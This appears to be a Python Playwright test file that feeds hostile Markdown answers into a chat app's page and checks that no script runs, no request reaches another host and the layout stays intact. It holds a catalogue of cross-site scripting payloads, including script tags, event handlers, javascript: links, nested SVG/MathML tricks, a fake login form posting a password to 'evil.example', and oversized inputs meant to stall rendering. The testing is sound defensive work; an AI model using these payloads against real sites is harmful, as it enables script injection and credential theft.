"""Hostile answers in the app's page: nothing runs, nothing leaves the origin, nothing shows outside of the answer."""

from __future__ import annotations

from collections.abc import Iterator, Mapping
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, expect

from edgerun.edge.conversations.store import ConversationStore
from support.app_server import running_app
from support.browser import BrowserPage, browser_page
from support.nightly import some_nightly
from support.page_server import page_server

HOST = "evil.example"
_SCRIPT = "window.attacked=true;fetch('/api/state');fetch('https://evil.example/')"

MARKUP = {
    "script": f"<script>{_SCRIPT}</script>",
    "script in a list": f"- a\n\n  <script>{_SCRIPT}</script>\n- <script src=https://{HOST}/x.js></script>",
    "event handlers": f'<img src=x onerror="{_SCRIPT}"><body onload="{_SCRIPT}"><details open ontoggle="{_SCRIPT}">',
    "svg": f'<svg onload="{_SCRIPT}"><script>{_SCRIPT}</script><use href="https://{HOST}/x.svg#a"/></svg>',
    "svg and mathml in each other": (
        "<math><mtext><table><mglyph><style><!--</style>"
        f'<img title="--&gt;&lt;img src=1 onerror={_SCRIPT}&gt;"></style></mglyph></table></mtext></math>'
    ),
    "frames": f'<iframe src="javascript:{_SCRIPT}"></iframe><iframe srcdoc="<script>{_SCRIPT}</script>"></iframe>',
    "objects": f'<object data="https://{HOST}/"></object><embed src="https://{HOST}/">',
    "meta and base": f'<meta http-equiv="refresh" content="0;url=https://{HOST}/"><base href="https://{HOST}/">',
    "style sheets": (
        f'<style>body{{display:none}} @import "https://{HOST}/x.css"; *{{background:url(https://{HOST}/p)}}</style>'
        f'<link rel=stylesheet href="https://{HOST}/x.css"><link rel=preload as=image href="https://{HOST}/p">'
    ),
    "a fake interface": (
        '<div class="dialog notice" id="app" role="alert" style="position:fixed;inset:0;z-index:99999;background:#fff">'
        f'<form action="https://{HOST}/"><input name=password autofocus><button>Log in</button></form></div>'
    ),
    "ends of elements": '</textarea></title></style></script></div></main></body></html>--><h1 class="md">out</h1>',
    "attributes in a tag": f'<sub onclick="{_SCRIPT}" style="position:fixed">a</sub><kbd id=app>b</kbd><br style="x">',
    "links": "\n".join(
        f"[link {number}]({address}) ![image]({address})"
        for number, address in enumerate(
            (
                f"javascript:{_SCRIPT}",
                f"JaVaScRiPt:{_SCRIPT}",
                f"java&#10;script:{_SCRIPT}",
                f"&#106;avascript:{_SCRIPT}",
                f"data:text/html,<script>{_SCRIPT}</script>",
                "data:image/svg+xml,<svg/onload=alert(1)>",
                f"vbscript:{_SCRIPT}",
                f"https://{HOST}/pixel.png",
                f"//{HOST}/pixel.png",
                "/api/conversations",
                "blob:null/x",
            )
        )
    ),
    "autolinks": f"<javascript:{_SCRIPT}> <data:text/html,x> http://a&quot;onmouseover=x ![a](<https://{HOST}/a b>)",
    "titles": f'[a](https://{HOST}/ "\\" onmouseover={_SCRIPT}") ![b](https://{HOST}/ "\'><script>x</script>")',
    "definitions": f"[a][x] ![b][x]\n\n[x]: javascript:{_SCRIPT}\n[y]: https://{HOST}/\n",
    "code": (
        f'```html"><script>{_SCRIPT}</script>\n</code></pre><script>{_SCRIPT}</script>\n```\n'
        "``</code><script>x</script>``"
    ),
    "formulas": "\n\n".join(
        f"${formula}$"
        for formula in (
            rf"\href{{javascript:{_SCRIPT}}}{{x}}",
            rf"\url{{https://{HOST}/}}",
            rf"\includegraphics{{https://{HOST}/p.png}}",
            r"\style{position:fixed;inset:0}{x}",
            r"\class{dialog}{x} \id{app}{x}",
            r"\htmlId{app}{x} \htmlClass{dialog}{x} \data{x=y}{z}",
            r"\text{</math><script>window.attacked=true</script>}",
            r"x\label{app}\tag{<img src=x onerror=window.attacked=true>}",
            r"\rule{9999em}{9999em}\kern-9999em\raisebox{9999em}{x}",
            r"\def\a{\a\a}\a",
        )
    ),
    "directions": (
        "\u202eesrever\u202c \u2066a\u2069 \u202e\u202e\u202e\n\n`\u202ecode`\n\n"
        "```py\nif x:\u202e # \u2066 return\n```"
    ),
    "marks": "a" + "\u0301" * 3000 + "\n\n" + ("Z" + "\u0334\u033f\u0489" * 60) * 20,
}
"""Answers that try to run scripts, to reach another host, or to look like the app."""

LARGE = {
    "a huge table": "|a|b|\n|-|-|\n" + "|c|d|\n" * 20_000,
    "a wide table": "|" + "a|" * 5000 + "\n|" + "-|" * 5000 + "\n|" + "b|" * 5000,
    "endless links": f"[a](https://{HOST}/) " * 10_000,
    "links apart": f"[a](https://{HOST}/)\n\n" * 10_000,
    "nested lists": "\n".join("  " * depth + "- a" for depth in range(800)),
    "nested lists on a line": "- " * 5000 + "a",
    "nested quotes": ">" * 50_000 + "a",
    "a long word": "a" * 200_000 + "@",
    "a long line of code": "```js\n" + "x=" * 100_000 + "\n```",
    "open brackets": "[" * 100_000,
    "open images": "![a](" * 40_000,
    "emphasis": "*a _b **c " * 20_000,
    "underscores": "_a" * 100_000,
    "emphasis around a letter": "*" * 50_000 + "a" + "*" * 50_000,
    "code marks": " ".join("`" * length for length in range(1, 500)),
    "dollars": "$a " * 70_000,
    "deep formulas": "$$" + "{" * 4500 + "}" * 4500 + "$$",
    "comments of code": "```js\n" + "/*" * 20_000 + "\n```",
    "paragraphs": "a\n\n" * 60_000,
    "blank lines": "\n" * 200_000 + "a",
    "tags": "<div>" * 40_000,
}
"""Answers that could keep the page busy."""


LAYOUT = """() => {
  // Beside the messages, what differs by conversation: which one is chosen in the list, and how full its context is.
  const inside = ".scroller, .conversations, .meter, .composer-hint";
  const boxes = [...document.querySelectorAll("#app *")].filter((element) => !element.closest(inside));
  return {
    title: document.title, base: document.baseURI.split("#")[0], attacked: window.attacked ?? false,
    boxes: boxes.map((element) =>
      element.tagName + " " + Object.values(element.getBoundingClientRect().toJSON()).map(Math.round).join(" ")),
    ids: document.querySelectorAll("#app").length,
  };
}"""
"""What is shown around the messages, and traces of a script that ran."""
ESCAPED = """() => {
  const allowed = new Set(
    ("a bdi blockquote br button code del div em h2 h3 h4 h5 h6 hr img kbd li ol p pre span strong sub sup table " +
      "tbody td th thead tr ul").split(" "));
  const found = [];
  for (const element of document.querySelectorAll(".message.assistant .md *")) {
    const inFormula = element.closest("math");
    if (!inFormula && !allowed.has(element.localName)) found.push(element.localName);
    for (const name of element.getAttributeNames()) {
      const never = /^(on.*|id|srcdoc|action|name)$/.test(name) || (name === "style" && !inFormula);
      const address = /^(href|src)$/.test(name);
      if (never || (address && !/^(https?:|mailto:|data:image[/](png|jpeg|gif|webp);)/.test(element[name])))
        found.push(`${element.localName} ${name}`);
    }
  }
  return found;
}"""
"""Elements and attributes of the answer that no Markdown makes."""


def stored(home: Path, answers: Mapping[str, str]) -> dict[str, str]:
    """Write a conversation for each answer into a data folder, and return their ids."""
    store = ConversationStore(home / "conversations.sqlite3")
    ids = {}
    for name, text in answers.items():
        # All have the same title, since the page around them has to stay the same.
        ids[name] = store.create(title="Title").id
        question = store.add_message(ids[name], None, "user", "question")
        store.add_message(ids[name], question.id, "assistant", text)
    store.close()
    return ids


@pytest.fixture(scope="module")
def home(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The app's data folder."""
    return tmp_path_factory.mktemp("home")


@pytest.fixture(scope="module")
def ids(home: Path) -> dict[str, str]:
    """Ids of conversations with hostile answers, and one with a harmless one."""
    return stored(home, {"harmless": "text", **MARKUP})


@pytest.fixture(scope="module")
def window(home: Path, chromium: Browser) -> Iterator[BrowserPage]:
    with running_app(home) as app, browser_page(app.url, within=chromium) as window:
        yield window


def opened(window: BrowserPage, conversation: str) -> Any:
    """The layout around the messages of a conversation, once these are shown."""
    page = window.page
    page.evaluate("id => { location.hash = '#/c/' + id }", conversation)
    expect(page.locator(".message.assistant .md")).to_have_count(1, timeout=60_000)
    page.evaluate("new Promise((resolve) => requestAnimationFrame(() => requestAnimationFrame(resolve)))")
    return page.evaluate(LAYOUT)


def test_hostile_markup_does_nothing(window: BrowserPage, ids: dict[str, str]) -> None:
    reference = opened(window, ids["harmless"])
    found = {}
    for name in MARKUP:
        layout = opened(window, ids[name])
        found[name] = [key for key in reference if layout[key] != reference[key]] + window.page.evaluate(ESCAPED)
    assert {name: faults for name, faults in found.items() if faults} == {}
    window.page.wait_for_load_state("networkidle")
    window.assert_quiet()


def test_hostile_markup_is_clipped_to_its_message(window: BrowserPage, ids: dict[str, str]) -> None:
    for name in ("marks", "formulas", "directions"):
        opened(window, ids[name])
        box = window.page.locator(".message.assistant .md")
        assert "paint" in box.evaluate("box => getComputedStyle(box).contain.replace('content', 'layout paint style')")
        assert box.evaluate("box => getComputedStyle(box).isolation") == "isolate"
        assert window.page.evaluate("document.documentElement.scrollWidth <= innerWidth")


@pytest.mark.parametrize("name", some_nightly(LARGE, 7))
def test_large_answers_leave_the_page_usable(window: BrowserPage, home: Path, name: str) -> None:
    opened(window, stored(home, {name: LARGE[name]})[name])
    composer = window.page.get_by_role("textbox", name="Message", exact=True)
    composer.fill("still here")
    expect(composer).to_have_value("still here")
    composer.fill("")
    assert window.page.evaluate("document.querySelectorAll('.md *').length") < 60_000
    window.assert_quiet()


def test_a_link_of_an_answer_opens_without_the_page(window: BrowserPage, ids: dict[str, str]) -> None:
    opened(window, ids["titles"])
    link = window.page.locator(".md a").first
    with window.page.context.expect_page() as popup:
        link.click()
    assert popup.value.evaluate("window.opener") is None
    popup.value.close()
    # That the reader's click goes to another host is what was asked for.
    assert all("evil.example" in address for address in window.foreign)
    window.foreign.clear()
    window.errors.clear()


FAULTS = {
    "new Image().src = 'http://elsewhere.example/pixel.png'": "elsewhere.example/pixel",
    "fetch('https://elsewhere.example/').catch(() => 0)": "https://elsewhere.example/",
    "throw new Error('deliberate')": "deliberate",
    "console.error('said')": "said",
    "document.body.setAttribute('onclick', 'x()'); document.body.click()": "inline event handler violates",
}


def test_a_window_tells_what_went_wrong(chromium: Browser) -> None:
    for script, fault in FAULTS.items():
        with (
            page_server(script) as address,
            pytest.raises(AssertionError, match=fault),
            browser_page(address, within=chromium) as window,
        ):
            window.page.wait_for_load_state("networkidle")
